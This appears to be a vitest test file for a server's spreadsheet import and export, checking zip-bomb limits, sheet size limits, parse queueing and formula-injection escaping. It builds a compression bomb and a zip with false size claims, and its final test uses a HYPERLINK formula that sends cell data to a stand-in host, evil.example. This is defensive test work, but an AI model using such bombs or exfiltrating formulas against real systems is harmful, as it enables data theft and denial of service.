// Imports that cannot hurt the server: zip limits checked before parsing, sheet limits while
// streaming, the parse off the request thread, one parse at a time with a bounded queue.
import { crc32, deflateRawSync } from 'node:zlib';
import { count } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type Session, type TestApp } from '../../../../test/app';
import { withDemoCity } from '../../../../test/fixtures';
import { download, readXlsx, upload, xlsx } from '../../../../test/io-helpers';
import { units } from '../../../db/schema/index';
import { importQueue } from '../../../platform/xlsx';

let t: TestApp;
let office: Session;
const HEADER = ['单位编码*', '单位名称*', '单位类型*'];
const LIMITS = {
  IMPORT_MAX_ROWS: '30000',
  IMPORT_MAX_COLUMNS: '20',
  IMPORT_MAX_CELLS: '200000',
  IMPORT_MAX_SHARED_STRINGS: '100000',
  IMPORT_QUEUE_LENGTH: '1',
};

beforeAll(async () => {
  // One app per file: the import limits and queue are per process.
  t = await createTestApp(LIMITS);
  await withDemoCity(t, 50);
  office = await t.login('office');
});
afterAll(() => t.close());

/** A zip written by hand, so a test can make its central directory claim any size. */
function zip(files: Record<string, string>, claim: Record<string, number> = {}): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const raw = Buffer.from(text, 'utf8');
    const packed = deflateRawSync(raw);
    const fname = Buffer.from(name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc32(raw), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(fname.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(raw), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(claim[name] ?? raw.length, 24);
    central.writeUInt16LE(fname.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fname, packed);
    centrals.push(central, fname);
    offset += 30 + fname.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, cd, end]));
}

const NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');
const colName = (i: number) =>
  (i < 26 ? '' : String.fromCharCode(64 + Math.floor(i / 26))) + String.fromCharCode(65 + (i % 26));

/** A minimal workbook: sheet 单位 with inline-string rows; optional extra parts (e.g. shared strings). */
function book(rows: string[][], parts: { sharedStrings?: string } = {}, claim: Record<string, number> = {}) {
  const sheetData = rows
    .map(
      (r, i) =>
        `<row r="${i + 1}">${r
          .map((v, j) =>
            v === '' ? '' : `<c r="${colName(j)}${i + 1}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`,
          )
          .join('')}</row>`,
    )
    .join('');
  const files: Record<string, string> = {
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<workbook ${NS} xmlns:r="${REL}"><sheets><sheet name="单位" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<worksheet ${NS}><sheetData>${sheetData}</sheetData></worksheet>`,
  };
  if (parts.sharedStrings) files['xl/sharedStrings.xml'] = parts.sharedStrings;
  return { name: '单位.xlsx', data: zip(files, claim) };
}

const unitRows = (n: number, from = 0) =>
  Array.from({ length: n }, (_, i) => [
    `L${String(from + i).padStart(6, '0')}`,
    `导入压力测试单位${from + i}`,
    '职能部门',
  ]);
const unitCount = async () => Number((await t.db.select({ n: count() }).from(units))[0]!.n);

describe('limits checked on the zip directory, before parsing', () => {
  it('refuses a compression bomb (huge shared strings) with 413 IMPORT_TOO_LARGE', async () => {
    const bomb = `<sst ${NS}><si><t>${'哈'.repeat(8_000_000)}</t></si></sst>`;
    const r = await upload(t, office, '/api/imports/units', book([HEADER], { sharedStrings: bomb }));
    expect(r.status).toBe(413);
    expect(r.body.error?.code).toBe('IMPORT_TOO_LARGE');
    expect(r.body.error?.message).toMatch(/压缩比异常.*上限 200:1/);
    expect(r.body.error?.details?.fields?.[0]?.field).toBe('file');
    expect(importQueue().parsing).toBe(false); // never reached the parser
  });

  it('refuses a directory that claims more than the unzipped limit (413, the limit named)', async () => {
    const file = book(
      [HEADER, ['A1', '甲', '职能部门']],
      {},
      { 'xl/worksheets/sheet1.xml': 150 * 1024 * 1024 },
    );
    const r = await upload(t, office, '/api/imports/units', file);
    expect(r.status).toBe(413);
    expect(r.body.error?.code).toBe('IMPORT_TOO_LARGE');
    expect(r.body.error?.message).toContain('100 MB');
  });

  it('refuses a part that inflates to more than its directory claims', async () => {
    const file = book(unitRows(2000), {}, { 'xl/worksheets/sheet1.xml': 1000 });
    const r = await upload(t, office, '/api/imports/units', file);
    expect(r.status).toBe(413);
    expect(r.body.error?.code).toBe('IMPORT_TOO_LARGE');
    expect(r.body.error?.message).toContain('声明的大小');
  });
});

describe('limits checked while streaming the sheet', () => {
  it('refuses more rows than IMPORT_MAX_ROWS with 400 IMPORT_LIMIT_EXCEEDED naming the limit', async () => {
    const before = await unitCount();
    const r = await upload(t, office, '/api/imports/units', book([HEADER, ...unitRows(30_001)]));
    expect(r.status).toBe(400);
    expect(r.body.error?.code).toBe('IMPORT_LIMIT_EXCEEDED');
    expect(r.body.error?.message).toContain('30000 行');
    expect(r.body.error?.details?.limit).toEqual({ name: 'maxRows', value: 30000 });
    expect(await unitCount()).toBe(before);
  });

  it('refuses a cell beyond IMPORT_MAX_COLUMNS', async () => {
    const wide = [...HEADER, ...Array.from({ length: 18 }, () => ''), '多余'];
    const r = await upload(t, office, '/api/imports/units', book([wide, ['W1', '宽', '职能部门']]));
    expect(r.status).toBe(400);
    expect(r.body.error?.code).toBe('IMPORT_LIMIT_EXCEEDED');
    expect(r.body.error?.message).toContain('上限 20 列');
  });

  it('refuses more non-empty cells than IMPORT_MAX_CELLS', async () => {
    const rows = Array.from({ length: 20_001 }, (_, i) => Array.from({ length: 10 }, (_, j) => `${i}-${j}`));
    const r = await upload(t, office, '/api/imports/units', book([HEADER, ...rows]));
    expect(r.status).toBe(400);
    expect(r.body.error?.code).toBe('IMPORT_LIMIT_EXCEEDED');
    expect(r.body.error?.message).toContain('200000 个');
  });

  it('refuses more shared strings than IMPORT_MAX_SHARED_STRINGS', async () => {
    const sst = `<sst ${NS}>${Array.from({ length: 100_001 }, (_, i) => `<si><t>s${i}</t></si>`).join('')}</sst>`;
    const r = await upload(t, office, '/api/imports/units', book([HEADER], { sharedStrings: sst }));
    expect(r.status).toBe(400);
    expect(r.body.error?.code).toBe('IMPORT_LIMIT_EXCEEDED');
    expect(r.body.error?.message).toContain('共享字符串超过 100000 个');
  });
});

describe('the parse runs off the request thread, one at a time', () => {
  const big = () => xlsx(HEADER, unitRows(25_000), '单位');

  it('answers other requests while a big file is being parsed', async () => {
    // Warm the worker up, so what follows measures a parse rather than the worker's start.
    await upload(t, office, '/api/imports/units?dryRun=true', {
      name: 'u.xlsx',
      data: await xlsx(HEADER, unitRows(1), '单位'),
    });
    const data = await big();
    let importDone = false;
    const importing = upload(t, office, '/api/imports/units?dryRun=true', { name: 'big.xlsx', data }).then(
      (r) => {
        importDone = true;
        return r;
      },
    );
    while (!importQueue().parsing) await new Promise((r) => setTimeout(r, 1));
    const health = await t.app.request('/healthz');
    const me = await t.call('GET', '/api/auth/me', { session: office });
    const stillParsing = importQueue().parsing;
    expect(health.status).toBe(200);
    expect(me.status).toBe(200);
    expect(stillParsing).toBe(true); // both answered while the file was still being parsed
    expect(importDone).toBe(false);
    const r = await importing;
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ dryRun: true, total: 25_000, created: 25_000 });
  });

  it('queues a second import behind the running parse and refuses a third (503 IMPORT_BUSY)', async () => {
    const data = await big();
    const small = { name: 'small.xlsx', data: await xlsx(HEADER, unitRows(1, 900_000), '单位') };
    const first = upload(t, office, '/api/imports/units?dryRun=true', { name: 'big.xlsx', data });
    while (!importQueue().parsing) await new Promise((r) => setTimeout(r, 1));
    const second = upload(t, office, '/api/imports/units?dryRun=true', small);
    while (importQueue().waiting === 0) await new Promise((r) => setTimeout(r, 1));
    const third = await upload(t, office, '/api/imports/units?dryRun=true', small);
    expect(third.status).toBe(503);
    expect(third.body.error?.code).toBe('IMPORT_BUSY');
    expect(third.body.error?.message).toContain('排队上限 1 个');
    expect((await first).status).toBe(200);
    expect((await second).body).toMatchObject({ total: 1, created: 1 });
    expect(importQueue()).toEqual({ parsing: false, waiting: 0 });
  });
});

describe('formula injection', () => {
  it('exports a unit named like a formula as quoted text, and the export imports back losslessly', async () => {
    const name = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
    const created = await upload(
      t,
      office,
      '/api/imports/units',
      book([
        HEADER,
        ['FX001', name, '职能部门'],
        ['FX002', '+86 单位', '职能部门'],
        ['FX003', '@SUM(A1)', '其他'],
      ]),
    );
    expect(created.body).toMatchObject({ created: 3 });
    const exported = await download(t, office, '/api/exports/units.xlsx?q=FX00');
    const sheet = await readXlsx(exported.data);
    const cell = (code: string) => {
      const ws = sheet.wb.worksheets[0]!;
      let value: unknown;
      ws.eachRow((row) => {
        if (row.getCell(1).value === code) value = row.getCell(2).value;
      });
      return value;
    };
    expect(cell('FX001')).toBe(`'${name}`);
    expect(cell('FX002')).toBe("'+86 单位");
    expect(cell('FX003')).toBe("'@SUM(A1)");
    const back = await upload(t, office, '/api/imports/units', { name: 'units.xlsx', data: exported.data });
    expect(back.body).toMatchObject({ total: 3, created: 0, updated: 3 });
    const names = await t.call('GET', '/api/units?q=FX00', { session: office });
    expect(names.body.items.map((u: { name: string }) => u.name).sort()).toEqual(
      [name, '+86 单位', '@SUM(A1)'].sort(),
    );
  });
});
